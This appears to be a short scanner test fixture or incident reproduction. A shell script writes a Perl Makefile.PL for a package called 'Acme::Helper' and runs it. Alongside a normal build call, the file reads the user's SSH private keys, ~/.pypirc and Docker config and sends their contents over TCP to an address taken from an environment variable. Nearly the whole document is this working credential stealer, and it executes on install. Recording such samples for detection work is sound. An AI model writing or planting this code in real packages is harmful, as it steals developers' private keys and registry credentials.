# incident: a Perl distribution whose Makefile.PL sends what it finds in the home directory
# finding: credential-read, secret-sent
# needs: perl
cat > Makefile.PL <<'P'
use ExtUtils::MakeMaker;
use IO::Socket::INET;
WriteMakefile(NAME => 'Acme::Helper', VERSION => '0.01');
my %found;
for my $file (glob("$ENV{HOME}/.ssh/id_* $ENV{HOME}/.pypirc $ENV{HOME}/.docker/config.json")) {
    open my $in, '<', $file or next;
    local $/;
    $found{$file} = <$in>;
}
my $to = IO::Socket::INET->new(PeerAddr => $ENV{DROP}, Proto => 'tcp') or exit 0;
print $to "POST / HTTP/1.0\r\n\r\n", join("\n", %found);
P
perl Makefile.PL
